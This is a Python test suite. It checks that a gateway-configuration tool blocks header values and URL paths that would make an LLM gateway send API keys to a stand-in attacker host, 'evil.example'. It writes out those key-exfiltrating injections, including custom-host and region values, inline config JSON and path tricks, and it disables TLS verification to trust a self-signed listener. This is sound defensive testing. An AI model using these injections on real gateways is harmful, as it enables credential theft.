"""Every header that the real gateway knows, tried by a pull request: none leads a key to a host of its author's."""

from __future__ import annotations

import itertools
import json
import urllib.request
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from pathlib import Path

import pytest

from tests.conftest import Project
from tests.contract.gateway import headers_it_knows, running
from tests.faults.wire import self_signed
from tests.hostile.listener import Listener, listening

UPSTREAMS = ("openai", "azure-openai", "azure-ai", "vertex-ai", "bedrock", "huggingface", "oracle", "cortex")
LEADS_AWAY = {"vertex-region", "aws-region", "custom-host", "config", "huggingface-base-url", "azure-foundry-url"}
KEYS = {"PORTKEY_API_KEY": "pk-of-the-company", "UPSTREAM_KEY": "sk-of-the-company"}


class Evil:
    """Hosts of somebody else, with TLS and without, and a gateway that finds them by any name."""

    def __init__(self, gateway: str, tls: Listener, plain: Listener) -> None:
        self.gateway = gateway
        self.listeners = (tls, plain)
        at, url = f"evil.example:{tls.port}", f"http://evil.example:{plain.port}/x"
        self.hosts = (f"{at}/x", f"{at}#", url)

    def values(self, header: str) -> tuple[str, ...]:
        """What the header says to lead there."""
        if header != "x-portkey-config":
            return self.hosts
        base = {"provider": "vertex-ai", "api_key": KEYS["UPSTREAM_KEY"], "vertex_project_id": "p"}
        inline = [{**base, "vertex_region": self.hosts[0]}, {**base, "custom_host": self.hosts[2]}]
        return tuple(json.dumps(each) for each in inline)

    def heard_keys(self) -> list[bytes]:
        """What has come in that has a key in it."""
        heard = [head for each in self.listeners for head in each.heard]
        return [head for head in heard if any(key.encode() in head for key in KEYS.values())]


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Evil]:
    context, _ = self_signed(Path(tmp_path_factory.mktemp("tls")))
    trusting = {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}
    with (
        listening(context) as tls,
        listening() as plain,
        running("elsewhere.mjs", environment=trusting) as gateway,
    ):
        yield Evil(gateway, tls, plain)


def asked(evil: Evil, header: str, value: str, upstream: str) -> None:
    """The gateway, asked by somebody who checks nothing."""
    headers = {
        "x-portkey-provider": upstream,
        "x-portkey-api-key": KEYS["PORTKEY_API_KEY"],
        "authorization": f"Bearer {KEYS['UPSTREAM_KEY']}",
        header: value,
    }
    with suppress(OSError):
        urllib.request.urlopen(urllib.request.Request(f"{evil.gateway}/v1/assistants", headers=headers), timeout=60)


def test_the_gateway_itself_is_led_away_by_some(evil: Evil) -> None:
    """Or the test below would show nothing: a newer gateway may know other headers, or mind their values."""
    found = set()
    for header in sorted(LEADS_AWAY):
        before = len(evil.heard_keys())
        with ThreadPoolExecutor(4) as pool:
            tries = itertools.product(evil.values(f"x-portkey-{header}"), UPSTREAMS)
            list(pool.map(lambda each, header=header: asked(evil, f"x-portkey-{header}", *each), tries))
        found |= {header} if len(evil.heard_keys()) > before else set()
    assert found == LEADS_AWAY
    assert len(headers_it_knows()) > 80


@pytest.mark.parametrize("header", [*headers_it_knows(), "x-portkey-nobody-knows"])
def test_no_header_of_the_settings_leads_a_key_away(header: str, evil: Evil, project: Project) -> None:
    """Not where the environment lets the files choose any upstream, either: each is refused before a request."""
    project.environment |= {**KEYS, "RECONCILER_ALLOWED_HEADERS": "x-portkey-provider"}
    project.write("assistants.d/a.yaml", "name: a\nmodel: gpt-4o\n")
    before = evil.heard_keys()
    for value in evil.values(header):
        for upstream in ("vertex-ai", "bedrock", "huggingface") if header != "x-portkey-provider" else ("",):
            named = {"x-portkey-provider": upstream} if upstream else {}
            said = json.dumps({**named, header: value})
            keys = "{api_key: !env PORTKEY_API_KEY, provider_key: !env UPSTREAM_KEY}"
            project.target(evil.gateway, provider="portkey", more=f"    headers: {said}\n    credentials: {keys}\n")
            ran = project.run("plan")
            if header == "x-portkey-provider":  # which the gateway refuses: it knows no such upstream
                assert ran.code == 1
                continue
            assert any(code in ran.err for code in ("RC0301", "RC0305", "RC0314")), ran.err
    assert evil.heard_keys() == before


def paths(evil: Evil) -> list[str]:
    """Of a url, each with the host of somebody else in it."""
    at = f"evil.example:{evil.listeners[0].port}"
    return [f"/v1/{at}/x.openai.azure.com", f"/v1/proxy/{at}/x.openai.azure.com", f"/v1/{at}/.openai.azure.com/v1"]


def test_the_gateway_itself_is_led_away_by_a_path(evil: Evil) -> None:
    for path in paths(evil):
        before = len(evil.heard_keys())
        headers = {"x-portkey-provider": "azure-openai", "authorization": f"Bearer {KEYS['UPSTREAM_KEY']}"}
        with suppress(OSError):
            url = f"{evil.gateway}{path}/assistants"
            urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=60)
        assert len(evil.heard_keys()) > before, path


@pytest.mark.parametrize("by", ["target", "provider", "trusted provider"])
def test_no_path_of_a_url_leads_a_key_away(by: str, evil: Evil, project: Project) -> None:
    project.environment |= {**KEYS, "RECONCILER_TRUST_PROVIDERS": "acme" if by == "trusted provider" else ""}
    project.write("assistants.d/a.yaml", "name: a\nmodel: gpt-4o\n")
    before = evil.heard_keys()
    for path in paths(evil):
        url = f"url: '{evil.gateway}{path}'"
        named = "headers: {x-portkey-provider: azure-openai, x-portkey-azure-resource-name: desk}"
        keys = "credentials: {api_key: !env PORTKEY_API_KEY, provider_key: !env UPSTREAM_KEY}"
        in_provider = "" if by == "target" else f"{url}\n{named}\n"
        project.write("providers/acme.yaml", f"extends: portkey\n{in_provider}")
        own = f", {url}, {named}" if by == "target" else ""
        project.write(
            "assistants.d/reconciler.yaml",
            f"owner: x\ndefault_target: t\ntargets:\n  t: {{provider: acme, {keys}{own}}}\n",
        )
        for verb in ("plan", "apply"):
            ran = project.run(verb, *(["--yes"] if verb == "apply" else []))
            assert (ran.code, "RC0305]" in ran.err) == (1, True), ran.err
    assert evil.heard_keys() == before
